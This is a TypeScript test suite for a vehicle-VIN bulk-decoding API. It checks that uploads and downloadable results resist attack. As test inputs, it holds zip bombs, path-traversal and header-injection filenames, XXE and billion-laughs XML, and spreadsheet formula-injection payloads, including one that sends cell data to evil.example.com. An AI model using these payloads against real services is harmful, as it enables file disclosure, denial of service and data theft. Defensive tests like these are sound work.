import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { LightMyRequestResponse } from "fastify";
import { until } from "../support/until.ts";
import { codeOf, openHouse, type TestHouse } from "../isolation/support/house.ts";
import { done, openRegistry, type Person } from "../isolation/support/people.ts";
import { cell, workbookOf, zipOf } from "./support/zip.ts";

const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const VIN = "1HGCM82633A004352";
const MIB = 1_048_576;
/** Far less than the 1.1 GB that one far cell took, with room for what else this process holds. */
const MOST_GROWTH_BYTES = 600 * MIB;

/** What spreadsheets run. */
const FORMULAS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example.com?x="&A1)',
  '";=1+1',
];

let server: TestHouse;
let ann: Person;

before(async () => {
  server = await openHouse();
  ann = await (await openRegistry(server)).add("ann@example.com", "Ann");
  await server.house.jobs.start();
});
after(() => server.close());

const upload = (payload: Buffer | string, type: string): Promise<LightMyRequestResponse> =>
  server.send({
    method: "POST",
    url: "/api/v1/vin/jobs",
    headers: { ...ann.browser, "content-type": type },
    payload,
  });

/** The result of a list in a format once it is decoded. */
async function resultOf(
  uploaded: Promise<LightMyRequestResponse>,
  format: string,
): Promise<LightMyRequestResponse> {
  const { id } = await done<{ id: string }>(uploaded);
  const get = (path: string): Promise<LightMyRequestResponse> =>
    server.send({ method: "GET", url: `/api/v1/vin/jobs/${id}${path}`, headers: ann.browser });
  await until(async () => (await get("")).json().state === "finished", "the list is decoded");
  return get(`/result?format=${format}`);
}

const rows = (...texts: readonly string[]): string =>
  `<sheetData>${texts.map((text, index) => `<row r="${index + 1}">${cell(`A${index + 1}`, text)}</row>`).join("")}</sheetData>`;

describe("workbooks", () => {
  it("that unpack to more than they may, or to nothing, are refused without filling the memory", async () => {
    const hostile: Readonly<Record<string, Buffer>> = {
      "140 MB of blanks": workbookOf(Buffer.alloc(140 * MIB, 32)),
      "a size that is a lie": zipOf(
        [{ name: "xl/worksheets/sheet1.xml", content: Buffer.alloc(140 * MIB, 32) }],
        { statedBytes: 10 },
      ),
      "20,000 files": zipOf(
        Array.from({ length: 20_000 }, (_, number) => ({ name: `xl/${number}.xml`, content: "" })),
      ),
      "200,000 elements inside one another": workbookOf("<a>".repeat(200_000)),
      "one cell in the last corner": workbookOf(
        `<sheetData><row r="1048576">${cell("XFD1048576", VIN)}</row></sheetData>`,
      ),
      "an archive in itself": zipOf([{ name: "xl/workbook.xml", content: workbookOf(rows(VIN)) }]),
      "no part of a workbook": zipOf([{ name: "../../../../etc/cron.d/evil.xml", content: rows(VIN) }]),
    };
    const before = process.memoryUsage.rss();
    let most = before;
    // A failure leaves it behind, which shall not keep the process.
    const watch = setInterval(() => (most = Math.max(most, process.memoryUsage.rss())), 10).unref();
    for (const [name, file] of Object.entries(hostile)) {
      const answer = await upload(file, XLSX);
      assert.match(
        `${answer.statusCode} ${codeOf(answer)}`,
        /^(?:413 VIN_BULK_TOO_(?:LARGE|MANY_CELLS)|422 VIN_BULK_UNREADABLE)$/,
        name,
      );
      assert.doesNotMatch(answer.body, /node_modules|\.ts\b|\/tmp\//, name);
    }
    clearInterval(watch);
    assert.ok(most - before < MOST_GROWTH_BYTES, `${Math.round((most - before) / MIB)} MB`);
  });

  it("name nothing outside of themselves and multiply nothing: entities stay texts", async () => {
    const letters = [..."bcdefghij"];
    const laughs = letters.map((letter, index) => {
      const inner = `&${["a", ...letters][index]};`.repeat(10);
      return `<!ENTITY ${letter} "${inner}">`;
    });
    const prologues: readonly string[] = [
      '<!DOCTYPE w [<!ENTITY j SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE w [<!ENTITY j SYSTEM "http://127.0.0.1:1/">]>',
      '<!DOCTYPE w SYSTEM "http://127.0.0.1:1/evil.dtd">',
      `<!DOCTYPE w [<!ENTITY a "lolololol">${laughs.join("")}]>`,
    ];
    for (const prologue of prologues) {
      const file = workbookOf(rows("vin", "&j;"), prologue);
      const { body } = await resultOf(upload(file, XLSX), "csv");
      assert.doesNotMatch(body, /root:|lolol/, prologue);
      assert.ok(body.includes("&j;"), body);
    }
  });
});

describe("result files", () => {
  it("hold no cell that a spreadsheet runs, and no text that leaves its cell", async () => {
    const list = [
      "vin,id",
      ...FORMULAS.map((text) => `"${text.replaceAll('"', '""')}","${text.replaceAll('"', '""')}"`),
    ];
    const answer = await resultOf(upload(list.join("\n"), "text/csv"), "csv");
    assert.match(String(answer.headers["content-type"]), /^text\/csv; charset=utf-8/i);
    assert.match(String(answer.headers["content-disposition"]), /^attachment; filename="[\w.-]+"$/);
    const cells = cellsOf(answer.body);
    const run = cells.filter((text) => /^[=+\-@\t\r]/.test(text));
    assert.deepEqual(run, []);
    for (const text of FORMULAS.map((text) => text.trim()))
      assert.ok(
        cells.some((found) => found.includes(text)),
        text,
      );
    const workbook = await resultOf(upload(list.join("\n"), "text/csv"), "xlsx");
    assert.ok(!workbook.rawPayload.includes("<f>"));
  });

  it("have names of ours, whatever the list is called", async () => {
    for (const name of [
      '../../etc/passwd"; filename="evil.exe',
      "a\r\nset-cookie: x=1",
      "\u202Egnp.exe",
      "<svg>",
    ]) {
      const { id } = await done<{ id: string }>(
        server.send({
          method: "POST",
          url: `/api/v1/vin/jobs?name=${encodeURIComponent(name)}`,
          headers: { ...ann.browser, "content-type": "text/plain" },
          payload: VIN,
        }),
      );
      const url = `/api/v1/vin/jobs/${id}/result`;
      await until(
        async () => (await server.send({ method: "GET", url, headers: ann.browser })).statusCode === 200,
        "the list is decoded",
      );
      const { headers } = await server.send({ method: "GET", url, headers: ann.browser });
      assert.match(String(headers["content-disposition"]), /^attachment; filename="[\w.-]+"$/, name);
      assert.equal(headers["set-cookie"], undefined);
    }
  });
});

/** Cells of a table as RFC 4180 writes it. */
function cellsOf(text: string): readonly string[] {
  return [...text.matchAll(/(?:^|,|\n)(?:"((?:[^"]|"")*)"|([^",\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
  );
}
